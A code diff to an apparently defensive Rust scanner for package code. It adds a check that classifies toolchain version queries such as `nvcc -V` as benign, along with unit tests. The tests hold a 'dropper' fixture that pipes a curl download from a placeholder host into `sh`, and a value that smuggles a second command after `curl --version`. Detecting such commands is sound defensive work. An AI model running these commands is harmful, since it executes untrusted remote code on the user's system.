@@ -1193,6 +1193,9 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     if is_vcs_query(known.unwrap_or(&shown)) {
         tags.push("vcs-query");
     }
+    if is_tool_probe(known.unwrap_or(&shown)) {
+        tags.push("tool-probe");
+    }
     if !FETCH_TOOL.is_match(known.unwrap_or(&shown)) && handles_files_only(known.unwrap_or(&shown))
     {
         tags.push("file-tool");
@@ -1219,6 +1222,34 @@ pub fn is_vcs_query(command: &str) -> bool {
     QUERY.is_match(command_head(command))
         && !command.contains([';', '&', '|', '`'])
         && !command.contains("$(")
+}
+
+/// `hipcc --version`, `rocm-smi --showdriverversion`, `nvcc -V`: a program asked only what
+/// version it is, which is how build and device code finds its toolchain.
+pub fn is_tool_probe(command: &str) -> bool {
+    if command.contains([';', '&', '|', '`', '>', '<']) || command.contains("$(") {
+        return false;
+    }
+    let mut words = command
+        .split(|c: char| c.is_whitespace() || matches!(c, ',' | '[' | ']' | '"' | '\''))
+        .filter(|w| !w.is_empty());
+    let Some(program) = words.next() else {
+        return false;
+    };
+    let arguments: Vec<&str> = words.take(8).collect();
+    // A program on the system's path, not one the package dropped somewhere writable.
+    let installed = !program.contains(['/', '\\'])
+        || ["/usr/", "/opt/", "/bin/"]
+            .iter()
+            .any(|prefix| program.starts_with(prefix));
+    installed
+        && !program.starts_with('-')
+        && !arguments.is_empty()
+        && arguments.iter().all(|a| a.starts_with('-'))
+        && arguments.iter().any(|a| {
+            let a = a.to_ascii_lowercase();
+            a.contains("version") || a == "-v" || a == "--help" || a == "-h"
+        })
 }
 
 /// `curl`, `wget`, `nc` and PowerShell's web cmdlets as the program a command runs: what they
@@ -2203,6 +2234,16 @@ mod tests {
         let dropper =
             "import os\ndef fetch():\n    os.system('curl -s https://x.invalid/a.sh | sh')\n";
         assert!(max_severity("p/pkg/fetch.py", dropper, "WH120") >= 0.5);
+    }
+
+    #[test]
+    fn version_questions_are_tool_probes() {
+        assert!(is_tool_probe("hipcc --version"));
+        assert!(is_tool_probe("[\"rocm-smi\", \"--showdriverversion\"]"));
+        assert!(is_tool_probe("nvcc -V"));
+        assert!(!is_tool_probe("hipcc -o x x.c"));
+        assert!(!is_tool_probe("curl --version; sh /tmp/x"));
+        assert!(!is_tool_probe("/tmp/x --version"));
     }
 
     #[test]
